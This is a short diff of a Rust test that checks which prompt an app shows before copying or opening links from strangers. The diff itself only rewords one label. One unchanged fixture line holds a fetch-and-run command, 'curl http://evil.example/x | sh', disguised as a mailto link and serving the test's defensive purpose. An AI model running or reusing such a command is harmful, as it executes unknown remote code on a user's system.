@@ -235,7 +235,7 @@ async fn what_a_strangers_link_copies_or_opens_is_shown_first() {
     buy_a_result(&window, "Link Writer", "links").await;
     for (link, shown, confirm) in [
         ("Write us", "mailto:curl http://evil.example/x | sh", "Copy the address"),
-        ("Mail", "ada@example.org", "Copy the mail address"),
+        ("Mail", "ada@example.org", "Copy the email address"),
         ("Plain", "http://example.org/", "Copy the address"),
         ("Page", "https://example.org/page", "Open in browser"),
     ] {
